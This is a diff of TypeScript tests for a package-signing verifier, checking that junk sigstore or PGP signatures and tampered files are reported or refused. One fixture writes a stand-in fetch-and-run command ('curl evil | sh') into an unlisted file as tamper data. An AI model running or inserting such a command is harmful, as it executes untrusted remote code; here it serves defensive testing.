@@ -128,6 +128,17 @@ describe('failure matrix (folder packages, mutated after packing)', () => {
     assert.equal((await pack(other, ['--format', 'dir'], 'other')).code, 0);
     await refused(await variant('swapped-sig', (d) => cp(join(other, 'manifest.sha256.sigstore.json'), join(d, 'manifest.sha256.sigstore.json'))), 'E_SIGNERS');
   });
+  // Signature files sign the manifest, so they are not in it: anyone in transit can add or replace one.
+  it('a junk extra signature is reported, not fatal; junk as the only signature → E_SIGNERS', async () => {
+    const junk: Array<[string, string]> = [['not json', '{'], ['a DSSE bundle', JSON.stringify({ mediaType: 'application/vnd.dev.sigstore.bundle.v0.3+json', dsseEnvelope: {} })]];
+    for (const [why, body] of junk) {
+      const extra = await variant(`junk-${why.replace(/\W/g, '')}`, (d) => writeFile(join(d, 'manifest.sha256.2.sigstore.json'), body));
+      const r = await cli(['inspect', extra, ...signer(), ...trust(), '--json'], `junk-${Math.random().toString(36).slice(2)}`);
+      assert.equal(r.code, 0, `${why}: ${r.stderr}`);
+      assert.match(JSON.parse(r.stdout).signatureProblems.join('\n'), /manifest\.sha256\.2\.sigstore\.json/, why);
+      await refused(await variant(`only-${why.replace(/\W/g, '')}`, (d) => writeFile(join(d, 'manifest.sha256.sigstore.json'), body)), 'E_SIGNERS');
+    }
+  });
   it('a file modified → E_PACKAGE_TAMPERED', async () => refused(await variant('modified', (d) => writeFile(join(d, 'files', 'notes.txt'), 'changed\n')), 'E_PACKAGE_TAMPERED'));
   it('a file missing → E_PACKAGE_TAMPERED', async () => refused(await variant('missing', (d) => unlink(join(d, 'files', 'notes.txt'))), 'E_PACKAGE_TAMPERED'));
   it('a file not listed → E_PACKAGE_TAMPERED', async () => refused(await variant('extra', (d) => writeFile(join(d, 'files', 'extra.sh'), 'curl evil | sh\n')), 'E_PACKAGE_TAMPERED'));
@@ -298,6 +309,10 @@ describe('OpenPGP: gpg interop', () => {
       await cp(join(dir, 'inline.asc'), join(x, 'manifest.sha256.asc'));
       const inline = await cli(['inspect', x, '--keyring', join(dir, 'release-public.asc'), ...trust()], 'pgp-air2');
       assert.equal(inline.code, 0, inline.stderr);
+      await writeFile(join(x, 'manifest.sha256.asc'), '-----BEGIN PGP SIGNATURE-----\n\ngarbage\n-----END PGP SIGNATURE-----\n');
+      const junk = await cli(['inspect', x, '--keyring', join(dir, 'release-public.asc'), ...trust(), '--json'], 'pgp-air3');
+      assert.equal(junk.code, 1, `an unreadable signature is a refusal, not a crash: ${junk.stderr}`);
+      assert.equal(JSON.parse(junk.stdout).error.code, 'E_SIGNERS');
     } finally {
       await gpg.cleanup();
     }
